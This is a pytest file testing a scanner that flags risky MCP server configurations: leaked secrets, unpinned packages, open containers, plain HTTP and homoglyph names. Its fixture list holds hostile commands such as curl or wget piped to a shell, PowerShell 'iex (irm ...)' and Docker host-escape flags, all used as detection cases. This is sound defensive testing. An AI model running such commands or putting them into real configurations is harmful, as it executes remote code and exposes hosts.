"""The scan: each planted problem is found at its line, clean files give nothing, no secret or text comes through."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mcp_offers import make_offer
from mcp_scans import SECRET_KEY, TOKEN, rules_of, scan_json
from verilabel.errors import MalformedInput, UsageError, VerilabelError
from verilabel.gateway.mcp.pins.lock import make_lock
from verilabel.gateway.mcp.pins.locking import write_lock
from verilabel.gateway.mcp.pins.scanning.places import read_placed_json
from verilabel.gateway.mcp.pins.scanning.sarif import write_sarif
from verilabel.gateway.mcp.pins.scanning.scanning import scan
from verilabel.gateway.mcp.pins.scanning.targets import (
    load_target,
    read_target,
)


def server(**entry: Any) -> dict[str, Any]:
    return {"mcpServers": {"one": entry}}


def run(*words: str) -> dict[str, Any]:
    return server(command=words[0], args=list(words[1:]))


# -- configurations with one planted problem ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("rule", "document"),
    [
        ("mcp/secret-in-config", server(command="x", env={"GITHUB_TOKEN": TOKEN})),
        ("mcp/secret-in-config", server(command="x", env={"MAIL_PASSWORD": SECRET_KEY})),
        ("mcp/secret-in-config", server(command="x", args=["--api-key", SECRET_KEY])),
        ("mcp/secret-in-config", server(command="x", args=[f"--token={TOKEN}"])),
        (
            "mcp/secret-in-config",
            server(url="https://h.example", headers={"Authorization": f"Bearer {TOKEN}"}),
        ),
        ("mcp/secret-in-config", server(url=f"https://h.example/mcp?api_key={SECRET_KEY}")),
        ("mcp/secret-in-config", server(url=f"https://u:{SECRET_KEY}@h.example/mcp")),
        ("mcp/fetch-and-run", run("bash", "-c", "curl -fsSL https://x.example/i.sh | sudo bash -s -- -y")),
        ("mcp/fetch-and-run", run("sh", "-c", "wget -qO- https://x.example/i | tee /tmp/i | sh")),
        ("mcp/fetch-and-run", run("/bin/bash", "-lc", 'exec bash <(curl -s "https://x.example")')),
        (
            "mcp/fetch-and-run",
            run("cmd", "/c", "powershell", "-Command", "iex (irm https://x.example/i.ps1)"),
        ),
        (
            "mcp/fetch-and-run",
            run("env", "A=b", "sh", "-c", "curl -o r https://x.example/r && chmod +x r && ./r"),
        ),
        ("mcp/unpinned-package", run("npx", "-y", "@scope/server")),
        ("mcp/unpinned-package", run("cmd", "/c", "npx", "-y", "server@latest")),
        ("mcp/unpinned-package", run("npx", "--package=@scope/server@^1.2.0", "server")),
        ("mcp/unpinned-package", run("pnpm", "dlx", "server@1.x")),
        ("mcp/unpinned-package", run("uvx", "mcp-server-git")),
        ("mcp/unpinned-package", run("uvx", "--from", "git+https://x.example/r.git", "server")),
        ("mcp/unpinned-package", run("uv", "tool", "run", "server>=1.0")),
        ("mcp/unpinned-package", run("pipx", "run", "--spec", "server", "server")),
        ("mcp/unpinned-package", run("go", "run", "example.org/server@latest")),
        ("mcp/unpinned-image", run("docker", "run", "-i", "--rm", "-e", "TOKEN", "mcp/server")),
        ("mcp/unpinned-image", run("podman", "run", "--name=x", "ghcr.example/mcp/server:latest", "--stdio")),
        ("mcp/image-by-tag", run("docker", "run", "registry.example:5000/mcp/server:1.2")),
        ("mcp/open-container", run("docker", "run", "--privileged", "i@sha256:" + "0" * 64)),
        ("mcp/open-container", run("docker", "run", "-v", "/:/host", "i@sha256:" + "0" * 64)),
        ("mcp/open-container", run("docker", "run", "--network", "host", "i@sha256:" + "0" * 64)),
        (
            "mcp/open-container",
            run("docker", "run", "--volume=/var/run/docker.sock:/s", "i@sha256:" + "0" * 64),
        ),
        ("mcp/broad-files", run("npx", "-y", "@scope/server-filesystem@1.0.0", "/")),
        ("mcp/plain-http", server(url="http://mcp.example.org/sse")),
        ("mcp/plain-http", server(type="http", serverUrl="http://10.0.0.7:8000/mcp")),
        (
            "mcp/credential-over-http",
            server(url="http://mcp.example.org/", headers={"Authorization": "${TOKEN}"}),
        ),
        ("mcp/wildcard-host", server(url="http://0.0.0.0:8000/mcp")),
        ("mcp/wildcard-host", run("my-server", "--host", "0.0.0.0")),
        ("mcp/wildcard-host", run("my-server", "--allowed-origins=*")),
        ("mcp/auto-approved", server(command="x", alwaysAllow=["send_mail"])),
        ("mcp/auto-approved", server(command="x", trust=True)),
        ("mcp/hidden-text", server(command="x", args=["a\u200bb"])),
        ("mcp/homoglyph", {"mcpServers": {"gіthub": {"command": "x"}}}),
    ],
)
def test_a_planted_problem_is_found_and_nothing_else(rule: str, document: Any) -> None:
    found = scan_json(document)
    assert {rule} == rules_of(found)
    assert all(each.line is not None and each.line > 1 for each in found)


@pytest.mark.parametrize(
    "document",
    [
        run("npx", "-y", "@scope/server@1.2.3"),
        run("npx", "./build/index.js"),
        run("uvx", "server==1.2.3", "--repository", "repo"),
        run("uvx", "server@1.2.3"),
        run("uvx", "--from", "git+https://x.example/r.git@" + "a" * 40, "server"),
        run("node", "server.js"),
        run("bash", "-c", "cd server && exec node index.js"),
        run("docker", "run", "-i", "--rm", "-v", "./data:/data:ro", "mcp/x@sha256:" + "0" * 64),
        run("server-filesystem", "/srv/projects/one"),
        server(url="https://mcp.example.org/mcp"),
        server(url="http://127.0.0.1:8000/mcp"),
        server(url="http://localhost:8000/mcp"),
        server(url="https://h.example/mcp", headers={"Authorization": "Bearer ${input:token}"}),
        server(
            command="x", env={"API_KEY": "${API_KEY}", "LOG_LEVEL": "debug", "TOKEN_FILE": "/run/secrets/t1"}
        ),
        server(command="x", env={"API_KEY": "your-api-key-here-123", "DB_PATH": "data/main.db"}),
        server(command="x", env={"KEY": "op://vault/item/field"}, alwaysAllow=[], trust=False),
        {"mcpServers": {}},
        {"mcpServers": {"küche": {"command": "x"}, "møde": {"command": "x"}, "メール": {"command": "x"}}},
    ],
)
def test_a_clean_configuration_gives_no_finding(document: Any) -> None:
    assert [] == scan_json(document)


@pytest.mark.parametrize(
    "document",
    [
        {"servers": {"one": {"type": "stdio", "command": "uvx", "args": ["x"]}}, "inputs": []},
        {"mcp": {"servers": {"one": {"command": "uvx", "args": ["x"]}}}},
        {"context_servers": {"one": {"command": {"path": "uvx", "args": ["x"], "env": {}}}}},
        {"context_servers": {"one": {"source": "custom", "command": "uvx", "args": ["x"]}}},
        {
            "numStartups": 3,
            "projects": {"/src/a": {"mcpServers": {"one": {"command": "uvx", "args": ["x"]}}}},
        },
        {"mcpServers": {"one": {"command": ["uvx", "x"]}}},
    ],
)
def test_the_configurations_of_all_clients_are_read(document: Any) -> None:
    found = scan_json(document)
    assert [("mcp/unpinned-package", "one")] == [(each.rule, each.server) for each in found]


def test_comments_and_trailing_commas_are_read_and_lines_are_right() -> None:
    data = b'\xef\xbb\xbf// mine\n{\n "mcpServers": { /* all\n of them */\n  "one": {\n   "command": "uvx",\n'
    data += b'   "args": [\n    "x", // the package\n   ],\n  },\n }\n}\n'
    found = scan([read_target(data, file="mcp.json")])
    assert [("mcp/unpinned-package", 7)] == [(each.rule, each.line) for each in found]


def test_a_configuration_in_toml_is_read_with_the_lines_of_its_tables() -> None:
    data = b'model = "x"\n\n[mcp_servers.one]  # mine\ncommand = "uvx"\nargs = ["server"]\n'
    found = scan([read_target(data, file="config.toml")])
    assert [("mcp/unpinned-package", "one", 3)] == [(each.rule, each.server, each.line) for each in found]
    for bad in (b"a = [" * 100_000, b"a = ", b"\xff"):
        with pytest.raises(MalformedInput):
            read_target(bad, file="config.toml")


def test_a_setting_that_starts_every_projects_servers_is_found() -> None:
    found = scan_json({"permissions": {}, "enableAllProjectMcpServers": True}, "settings.json")
    assert [("mcp/auto-approved", 3)] == [(each.rule, each.line) for each in found]
    assert [] == scan_json({"enableAllProjectMcpServers": False}, "settings.json")


def test_what_everybody_can_replace_is_found(tmp_path: Path) -> None:
    program = tmp_path / "server"
    program.write_text("#!/bin/sh\n")
    program.chmod(0o755)
    assert [] == scan_json(server(command=str(program)))
    program.chmod(0o757)
    assert {"mcp/writable-command"} == rules_of(scan_json(server(command=str(program))))
    program.chmod(0o755)
    tmp_path.chmod(0o777)
    assert {"mcp/writable-command"} == rules_of(scan_json(server(command="node", args=[str(program)])))
    tmp_path.chmod(0o1777)
    assert [] == scan_json(server(command=str(program)))
    assert {"mcp/writable-command"} == rules_of(scan_json(server(command=str(tmp_path / "not-there"))))


# -- the gateway's own file ---------------------------------------------------------------------------------------

GATEWAY = """verilabel: mcp/v1
policy: observe
listen: {transport: stdio}
servers:
  mail:
    command: [mail-mcp, --read-only]
    pins: mail.lock
"""


def scan_yaml(text: str, folder: Path) -> list[tuple[str, int | None]]:
    path = folder / "mcp.yaml"
    path.write_text(text)
    return [(each.rule, each.line) for each in scan([load_target(path)])]


def test_a_gateways_file_with_its_locks_is_clean(tmp_path: Path) -> None:
    (tmp_path / "mail.lock").write_bytes(write_lock(make_lock(make_offer())[0], None))
    assert [] == scan_yaml(GATEWAY, tmp_path)


@pytest.mark.parametrize(
    ("old", "new", "rule", "line"),
    [
        ("    pins: mail.lock\n", "", "mcp/missing-lock", 5),
        ("mail.lock", "gone.lock", "mcp/broken-lock", 7),
        ("    pins:", "    sandbox: {provider: process}\n    pins:", "mcp/uncontained", 7),
        ("    pins:", f"    env: {{TOKEN: {TOKEN}}}\n    pins:", "mcp/secret-in-config", 7),
        ("[mail-mcp, --read-only]", "[npx, -y, mail-mcp]", "mcp/unpinned-package", 6),
        ("{transport: stdio}", '{allowed_hosts: ["*"]}', "mcp/wildcard-host", 3),
        ("{transport: stdio}", "{transport: http, host: 0.0.0.0, auth: none}", "mcp/wildcard-host", 3),
    ],
)
def test_a_problem_of_the_gateways_file_is_found(
    tmp_path: Path, old: str, new: str, rule: str, line: int
) -> None:
    (tmp_path / "mail.lock").write_bytes(write_lock(make_lock(make_offer())[0], None))
    assert [(rule, line)] == scan_yaml(GATEWAY.replace(old, new), tmp_path)


# -- bad files ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"{",
        b'{"a": 1} 2',
        b'{"mcpServers": {"a": {}, "a": {}}}',
        b'{"mcpServers": {"a": 3}}',
        b'{"mcpServers": {"a": {"command": 3}}}',
        b'{"mcpServers": {"a": {"args": "x"}}}',
        b'{"mcpServers": {"a": {"env": []}}}',
        b'{"other": 1}',
        b"[1, 2]",
        b"NaN",
        b"\xff\xfe",
        b"[" * 100_000,
        b'{"a": /* no end',
    ],
)
def test_what_is_no_configuration_is_refused(data: bytes) -> None:
    with pytest.raises(MalformedInput, match=r"mcp\.json"):
        read_target(data, file="mcp.json")


def test_a_file_that_is_not_there_is_a_mistake_of_usage(tmp_path: Path) -> None:
    for path in (tmp_path / "none.json", tmp_path):
        with pytest.raises(UsageError):
            load_target(path)


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=6), inner, max_size=4),
    max_leaves=12,
)


@given(json_values, st.sampled_from([None, 1]))
def test_any_json_is_read_as_the_standard_library_reads_it(value: Any, indent: int | None) -> None:
    text = json.dumps(value, indent=indent)
    assert json.loads(text) == read_placed_json(text.encode(), where="x").value


words = st.sampled_from(("npx", "-y", "docker", "run", "-v", "--package", "uvx", "bash", "-c", "--host", "="))
entries = st.fixed_dictionaries(
    {},
    optional={
        "command": words | st.text() | st.lists(words) | json_values,
        "args": st.lists(words | st.text()) | json_values,
        "env": st.dictionaries(st.text(), st.text()) | json_values,
        "headers": st.dictionaries(st.text(), st.text()) | json_values,
        "url": st.text() | json_values | st.sampled_from(["http://[", "http://a:b@c:x/", "//", "http://*"]),
        "alwaysAllow": json_values,
        "tools": st.lists(json_values) | json_values,
        "instructions": json_values,
    },
)


@given(
    st.sampled_from(["mcpServers", "servers", "context_servers"]),
    st.dictionaries(st.text(), entries, max_size=3),
)
def test_no_configuration_raises_anything_but_an_error_of_the_tree(
    table: str, servers: dict[str, Any]
) -> None:
    try:
        found = scan([read_target(json.dumps({table: servers}).encode(), file="mcp.json")])
    except VerilabelError:
        return
    write_sarif(found)
    assert all(os.fsencode(each.subject).isascii() for each in found)


@given(st.binary(max_size=200))
def test_no_bytes_raise_anything_but_an_error_of_the_tree(data: bytes) -> None:
    for file in ("mcp.json", "mcp.yaml", "mcp.toml"):
        with pytest.raises(VerilabelError):
            read_target(data, file=file)


@pytest.mark.parametrize(
    ("document", "rules"),
    [
        (
            run("uvx", "--from", f"git+https://x:{TOKEN}@h.example/r.git", "server"),
            {"mcp/secret-in-config", "mcp/unpinned-package"},
        ),
        (
            server(url=f"http://h.example/s/{SECRET_KEY}/mcp?key={TOKEN}"),
            {"mcp/secret-in-config", "mcp/credential-over-http"},
        ),
        (server(url=f"http://h.example/s/{SECRET_KEY}/mcp"), {"mcp/plain-http"}),
        (
            server(url=f"http://x:{SECRET_KEY}@h.example/"),
            {"mcp/secret-in-config", "mcp/credential-over-http"},
        ),
    ],
)
def test_credentials_in_addresses_come_through_nowhere(document: Any, rules: set[str]) -> None:
    assert rules == rules_of(scan_json(document))


def test_a_lock_that_is_a_pipe_keeps_no_scan_waiting(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "mail.lock")
    assert [("mcp/broken-lock", 7)] == scan_yaml(GATEWAY, tmp_path)
    os.mkfifo(tmp_path / "trust.yaml")
    assert [("mcp/broken-lock", 8)] == scan_yaml(
        GATEWAY.replace("listen:", "trust: trust.yaml\nlisten:"), tmp_path
    )
